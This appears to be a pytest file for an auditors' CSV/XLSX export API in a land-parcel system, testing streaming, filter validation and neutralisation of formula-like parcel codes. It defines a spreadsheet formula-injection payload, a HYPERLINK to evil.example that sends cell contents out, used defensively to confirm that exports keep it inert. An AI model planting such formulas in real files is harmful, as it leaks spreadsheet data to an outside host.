"""The auditors' exports over HTTP: streamed, every row of every page, formula-like parcel codes
neutralised, bad filters refused before anything is sent."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from workflow.reports import queries as q
from workflow.reports.exports import flatten

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"详情")'


def csv_rows(r):
    assert r.status_code == 200 and r.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(r.get_data(as_text=True).lstrip("\ufeff"))))


def test_a_formula_in_a_parcel_code_stays_text_in_both_exports(client, world):
    world.parcel_in("idle", code=EVIL)
    world.parcel_in("approved", code="@SUM(1+1)")
    r = client.get("/api/v1/audit/idle-land?as_of=2025-01-01&format=csv")
    assert [row["code"] for row in csv_rows(r)] == ["'" + EVIL]
    r = client.get("/api/v1/audit/unsupplied?as_of=2025-01-01&format=csv")
    assert "'@SUM(1+1)" in [row["code"] for row in csv_rows(r)]
    r = client.get("/api/v1/audit/idle-land?as_of=2025-01-01&format=xlsx")
    assert r.headers["Content-Length"] == str(len(r.get_data()))
    sheet = load_workbook(io.BytesIO(r.get_data())).active
    code = sheet.cell(2, 1)
    assert code.value == EVIL and code.data_type == "s" and code.quotePrefix


def test_exports_stream_every_row_of_every_page_in_order(client, world, runtime):
    for state in ("approved", "approved", "expropriated", "supplied", "in_use", "idle"):
        world.parcel_in(state)
    world.parcel_in("approved", ownership="state")
    auditor = world.actors["auditor"]
    for page_fn, table_fn, path in ((q.unsupplied, q.unsupplied_table, "unsupplied"),
                                    (q.idle_land, q.idle_land_table, "idle-land")):
        pages, n = [], 1
        while True:
            got = page_fn(runtime.reader(), auditor, as_of=None, per_page=2, page=n)["items"]
            if not got:
                break
            pages += got
            n += 1
        assert pages, path
        # Batches of two: the export crosses several batches (and both stocks of unsupplied).
        table = table_fn(runtime.reader(), auditor, batch=2)
        exported = list(table.items)
        assert exported == pages
        assert all(tuple(flatten(i)) == table.columns for i in exported)
        r = client.get(f"/api/v1/audit/{path}?format=csv")
        assert r.is_streamed
        assert [row["parcel_id"] for row in csv_rows(r)] == [str(i["parcel_id"])
                                                             for i in pages]


def test_a_bad_filter_is_422_before_any_export_is_sent(client):
    for fmt in ("csv", "xlsx"):
        r = client.get(f"/api/v1/audit/unsupplied?township=无此乡&format={fmt}")
        assert r.status_code == 422 and r.mimetype == "application/problem+json"
        assert "township" in r.get_json()["errors"]
    assert client.get("/api/v1/audit/idle-land?format=csv", who="clerk").status_code == 403
